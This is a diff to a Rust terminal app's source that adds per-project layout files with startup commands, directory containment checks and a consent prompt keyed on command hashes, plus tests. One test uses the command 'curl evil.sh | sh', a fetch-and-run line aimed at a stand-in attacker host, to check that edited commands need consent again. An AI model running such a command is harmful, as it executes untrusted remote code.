@@ -1,7 +1,15 @@
-//! Project root detection utilities
+//! Project root detection and per-project layout files
 
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
 
+use crate::config::{parse_hex_color, Config};
+use crate::layout::LayoutSpec;
+
+/// Per-project layout file, looked up in the project root
+pub const PROJECT_LAYOUT_FILE: &str = ".vibeterm.toml";
+
 /// Project root markers (in priority order)
 const PROJECT_MARKERS: &[&str] = &[
     ".git",
@@ -12,6 +20,11 @@ const PROJECT_MARKERS: &[&str] = &[
     ".svn",
 ];
 
+/// Does `dir` itself contain a project marker?
+pub fn is_project_root(dir: &Path) -> bool {
+    PROJECT_MARKERS.iter().any(|marker| dir.join(marker).exists())
+}
+
 /// Detect project root by searching upward for marker files
 ///
 /// Starting from `from` path, traverse upward until finding a directory
@@ -22,11 +35,8 @@ pub fn detect_project_root(from: &Path) -> Option<PathBuf> {
     let mut current = from.to_path_buf();
 
     loop {
-        // Check if current directory contains any project marker
-        for marker in PROJECT_MARKERS {
-            if current.join(marker).exists() {
-                return Some(current);
-            }
+        if is_project_root(&current) {
+            return Some(current);
         }
 
         // Move to parent directory
@@ -39,6 +49,232 @@ pub fn detect_project_root(from: &Path) -> Option<PathBuf> {
     None
 }
 
+// ============================================================================
+// Project Layout Files
+// ============================================================================
+
+/// `.vibeterm.toml` as written on disk
+#[derive(Debug, Deserialize)]
+struct ProjectFile {
+    layout: Option<LayoutSection>,
+    #[serde(default, rename = "pane")]
+    panes: Vec<PaneEntry>,
+    #[serde(flatten)]
+    unknown: BTreeMap<String, toml::Value>,
+}
+
+/// `[layout]` section
+#[derive(Debug, Deserialize)]
+struct LayoutSection {
+    /// Layout description, e.g. `h(0, v(1, 2), 0.6)`
+    tree: Option<String>,
+    #[serde(flatten)]
+    unknown: BTreeMap<String, toml::Value>,
+}
+
+/// One `[[pane]]` entry
+#[derive(Debug, Deserialize)]
+struct PaneEntry {
+    name: Option<String>,
+    /// Relative to the project root (defaults to the root)
+    working_directory: Option<String>,
+    command: Option<String>,
+    /// Pane tint as `#RRGGBB`
+    tint: Option<String>,
+    #[serde(flatten)]
+    unknown: BTreeMap<String, toml::Value>,
+}
+
+/// Pane of a validated project layout
+#[derive(Debug, Clone, PartialEq)]
+pub struct ProjectPane {
+    pub name: Option<String>,
+    /// Absolute, existing directory
+    pub working_directory: PathBuf,
+    /// Command typed into the shell once it starts
+    pub command: Option<String>,
+    pub tint: Option<egui::Color32>,
+}
+
+/// Validated project layout, ready to build a workspace from
+#[derive(Debug, Clone)]
+pub struct ProjectLayout {
+    pub root: PathBuf,
+    /// Arrangement; leaf indices point into `panes`
+    pub spec: LayoutSpec,
+    pub panes: Vec<ProjectPane>,
+    /// Non-fatal problems (unknown keys)
+    pub warnings: Vec<String>,
+}
+
+impl ProjectLayout {
+    /// Commands that would run, in pane order
+    pub fn commands(&self) -> Vec<&str> {
+        self.panes.iter().filter_map(|p| p.command.as_deref()).collect()
+    }
+
+    /// Key identifying this root together with its commands
+    ///
+    /// Editing the commands changes the key, so consent is asked again.
+    pub fn consent_key(&self) -> String {
+        let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
+        let root = self.root.to_string_lossy();
+        for part in std::iter::once(root.as_ref()).chain(self.commands()) {
+            // FNV-1a, stable across runs and Rust versions
+            for byte in part.bytes().chain(std::iter::once(0)) {
+                hash ^= u64::from(byte);
+                hash = hash.wrapping_mul(0x0100_0000_01b3);
+            }
+        }
+        format!("{:016x}", hash)
+    }
+}
+
+/// Does `root` contain a project layout file?
+pub fn has_project_layout(root: &Path) -> bool {
+    root.join(PROJECT_LAYOUT_FILE).is_file()
+}
+
+/// Read and validate `root/.vibeterm.toml`
+pub fn load_project_layout(root: &Path) -> Result<ProjectLayout, String> {
+    let path = root.join(PROJECT_LAYOUT_FILE);
+    let contents = std::fs::read_to_string(&path)
+        .map_err(|e| format!("Failed to read {}: {}", path.display(), e))?;
+    parse_project_layout(root, &contents)
+}
+
+/// Validate a project layout file's contents
+///
+/// Unknown keys only produce warnings; a bad layout description, pane
+/// indices that don't match the `[[pane]]` list or a working directory
+/// that's missing or outside `root` are errors. Without a `[layout]` tree
+/// the panes are placed side by side.
+pub fn parse_project_layout(root: &Path, contents: &str) -> Result<ProjectLayout, String> {
+    let file: ProjectFile = toml::from_str(contents)
+        .map_err(|e| format!("Invalid {}: {}", PROJECT_LAYOUT_FILE, e))?;
+
+    let mut warnings: Vec<String> = file.unknown.keys()
+        .map(|key| format!("Unknown key '{}'", key))
+        .collect();
+
+    if file.panes.is_empty() {
+        return Err("No [[pane]] entries".to_string());
+    }
+
+    let tree = file.layout.and_then(|layout| {
+        warnings.extend(layout.unknown.keys().map(|key| format!("Unknown key 'layout.{}'", key)));
+        layout.tree
+    });
+    let spec = match tree {
+        Some(tree) => LayoutSpec::parse(&tree).map_err(|e| format!("Invalid layout tree: {}", e))?,
+        None => LayoutSpec::row(file.panes.len()).ok_or("No [[pane]] entries")?,
+    };
+
+    // Every pane must appear exactly once in the tree
+    let mut indices = spec.pane_indices();
+    indices.sort_unstable();
+    if indices != (0..file.panes.len()).collect::<Vec<_>>() {
+        return Err(format!(
+            "Layout tree must use each pane index 0-{} exactly once",
+            file.panes.len() - 1
+        ));
+    }
+
+    let root = std::fs::canonicalize(root)
+        .map_err(|e| format!("Can't resolve {}: {}", root.display(), e))?;
+    let mut panes = Vec::with_capacity(file.panes.len());
+    for (index, entry) in file.panes.into_iter().enumerate() {
+        warnings.extend(entry.unknown.keys().map(|key| format!("Unknown key 'pane[{}].{}'", index, key)));
+
+        let working_directory = match entry.working_directory.as_deref() {
+            Some(dir) => root.join(dir),
+            None => root.clone(),
+        };
+        if !working_directory.is_dir() {
+            return Err(format!(
+                "pane[{}]: directory {} does not exist",
+                index,
+                working_directory.display()
+            ));
+        }
+        // `..`, an absolute path or a symlink mustn't lead out of the project
+        let working_directory = std::fs::canonicalize(&working_directory)
+            .ok()
+            .filter(|dir| dir.starts_with(&root))
+            .ok_or_else(|| format!("pane[{}]: directory {} is outside the project", index, working_directory.display()))?;
+
+        let tint = entry.tint.and_then(|hex| {
+            let valid = hex.len() == 7 && hex.starts_with('#') && hex[1..].chars().all(|c| c.is_ascii_hexdigit());
+            if !valid {
+                warnings.push(format!("pane[{}].tint '{}' is not a #RRGGBB color", index, hex));
+            }
+            valid.then(|| parse_hex_color(&hex))
+        });
+
+        panes.push(ProjectPane {
+            name: entry.name.filter(|n| !n.trim().is_empty()),
+            working_directory,
+            command: entry.command.filter(|c| !c.trim().is_empty()),
+            tint,
+        });
+    }
+
+    Ok(ProjectLayout {
+        root: root.to_path_buf(),
+        spec,
+        panes,
+        warnings,
+    })
+}
+
+/// Projects whose layout commands the user agreed to run
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+#[serde(default)]
+pub struct ProjectConsent {
+    /// [`ProjectLayout::consent_key`] values
+    pub granted: Vec<String>,
+}
+
+impl ProjectConsent {
+    /// Get consent file path
+    pub fn state_path() -> PathBuf {
+        Config::config_dir().join("project_consent.toml")
+    }
+
+    /// Load consent from disk, falling back to none granted
+    pub fn load() -> Self {
+        std::fs::read_to_string(Self::state_path())
+            .ok()
+            .and_then(|contents| toml::from_str(&contents).ok())
+            .unwrap_or_default()
+    }
+
+    /// Save consent to disk
+    pub fn save(&self) -> Result<(), String> {
+        std::fs::create_dir_all(Config::config_dir())
+            .map_err(|e| format!("Failed to create config dir: {}", e))?;
+
+        let toml_string = toml::to_string_pretty(self)
+            .map_err(|e| format!("Failed to serialize project consent: {}", e))?;
+
+        std::fs::write(Self::state_path(), toml_string)
+            .map_err(|e| format!("Failed to write project consent: {}", e))
+    }
+
+    /// Must the user confirm before this layout's commands run?
+    pub fn needs_prompt(&self, layout: &ProjectLayout) -> bool {
+        !layout.commands().is_empty() && !self.granted.contains(&layout.consent_key())
+    }
+
+    /// Remember that the user allowed this layout's commands
+    pub fn grant(&mut self, layout: &ProjectLayout) {
+        let key = layout.consent_key();
+        if !self.granted.contains(&key) {
+            self.granted.push(key);
+        }
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -59,4 +295,132 @@ mod tests {
         // /tmp typically has no project markers
         assert!(root.is_none() || root.unwrap() != PathBuf::from("/tmp"));
     }
+
+    const FIXTURE: &str = r##"
+[layout]
+tree = "h(0, v(1, 2), 0.6)"
+
+[[pane]]
+name = "editor"
+
+[[pane]]
+name = "server"
+working_directory = "api"
+command = "cargo run"
+tint = "#E06C75"
+
+[[pane]]
+working_directory = "web"
+command = "npm run dev"
+"##;
+
+    fn fixture_root() -> tempfile::TempDir {
+        let dir = tempfile::TempDir::new().unwrap();
+        std::fs::create_dir(dir.path().join("api")).unwrap();
+        std::fs::create_dir(dir.path().join("web")).unwrap();
+        dir
+    }
+
+    #[test]
+    fn test_parse_project_layout() {
+        let root = fixture_root();
+        let layout = parse_project_layout(root.path(), FIXTURE).unwrap();
+
+        assert_eq!(layout.spec.pane_indices(), vec![0, 1, 2]);
+        assert_eq!(layout.panes.len(), 3);
+        assert_eq!(layout.panes[0].name.as_deref(), Some("editor"));
+        let root = root.path().canonicalize().unwrap();
+        assert_eq!(layout.panes[0].working_directory, root);
+        assert_eq!(layout.panes[1].working_directory, root.join("api"));
+        assert_eq!(layout.commands(), vec!["cargo run", "npm run dev"]);
+        assert_eq!(layout.panes[1].tint, Some(egui::Color32::from_rgb(0xE0, 0x6C, 0x75)));
+        assert_eq!(layout.panes[2].tint, None);
+        assert!(layout.warnings.is_empty());
+    }
+
+    #[test]
+    fn test_load_project_layout_from_disk() {
+        let root = fixture_root();
+        assert!(!has_project_layout(root.path()));
+        std::fs::write(root.path().join(PROJECT_LAYOUT_FILE), FIXTURE).unwrap();
+        assert!(has_project_layout(root.path()));
+        assert_eq!(load_project_layout(root.path()).unwrap().panes.len(), 3);
+    }
+
+    #[test]
+    fn test_unknown_keys_warn() {
+        let root = fixture_root();
+        let contents = "theme = 1\n[layout]\nsplit = 'h'\n[[pane]]\ncmd = 'ls'\n";
+        let layout = parse_project_layout(root.path(), contents).unwrap();
+        assert_eq!(layout.warnings, vec![
+            "Unknown key 'theme'".to_string(),
+            "Unknown key 'layout.split'".to_string(),
+            "Unknown key 'pane[0].cmd'".to_string(),
+        ]);
+        // No tree given: single pane
+        assert_eq!(layout.spec, LayoutSpec::Pane(0));
+
+        let layout = parse_project_layout(root.path(), "[[pane]]\ntint = 'red'\n").unwrap();
+        assert_eq!(layout.panes[0].tint, None);
+        assert_eq!(layout.warnings, vec!["pane[0].tint 'red' is not a #RRGGBB color".to_string()]);
+    }
+
+    #[test]
+    fn test_missing_directory_is_error() {
+        let root = fixture_root();
+        let contents = "[[pane]]\nworking_directory = 'nope'\n";
+        let err = parse_project_layout(root.path(), contents).unwrap_err();
+        assert!(err.contains("does not exist"), "{}", err);
+    }
+
+    #[test]
+    #[cfg(unix)]
+    fn test_directories_outside_the_root_are_errors() {
+        let root = fixture_root();
+        let outside = tempfile::TempDir::new().unwrap();
+        let outside_path = outside.path().display().to_string();
+        std::os::unix::fs::symlink(outside.path(), root.path().join("link")).unwrap();
+        for dir in ["..", "api/../..", outside_path.as_str(), "link"] {
+            let contents = format!("[[pane]]\nworking_directory = '{}'\n", dir);
+            let err = parse_project_layout(root.path(), &contents).unwrap_err();
+            assert!(err.contains("outside the project"), "{}: {}", dir, err);
+        }
+        let layout = parse_project_layout(root.path(), "[[pane]]\nworking_directory = 'api/../web'\n").unwrap();
+        assert_eq!(layout.panes[0].working_directory, root.path().canonicalize().unwrap().join("web"));
+    }
+
+    #[test]
+    fn test_tree_must_match_panes() {
+        let root = fixture_root();
+        let two_panes = "[[pane]]\n[[pane]]\n";
+        assert!(parse_project_layout(root.path(), two_panes).is_ok());
+        for tree in ["h(0, 2)", "h(0, 0)", "0", "h(0, 1"] {
+            let contents = format!("[layout]\ntree = '{}'\n{}", tree, two_panes);
+            assert!(parse_project_layout(root.path(), &contents).is_err(), "{}", tree);
+        }
+        assert!(parse_project_layout(root.path(), "").is_err());
+    }
+
+    #[test]
+    fn test_consent_gating() {
+        let root = fixture_root();
+        let layout = parse_project_layout(root.path(), FIXTURE).unwrap();
+        let mut consent = ProjectConsent::default();
+
+        assert!(consent.needs_prompt(&layout));
+        consent.grant(&layout);
+        consent.grant(&layout);
+        assert!(!consent.needs_prompt(&layout));
+        assert_eq!(consent.granted.len(), 1);
+
+        // Changed commands ask again
+        let edited = FIXTURE.replace("cargo run", "curl evil.sh | sh");
+        let edited = parse_project_layout(root.path(), &edited).unwrap();
+        assert!(consent.needs_prompt(&edited));
+
+        // Layouts without commands never prompt
+        let plain = parse_project_layout(root.path(), "[[pane]]\n").unwrap();
+        assert!(!ProjectConsent::default().needs_prompt(&plain));
+    }
+
 }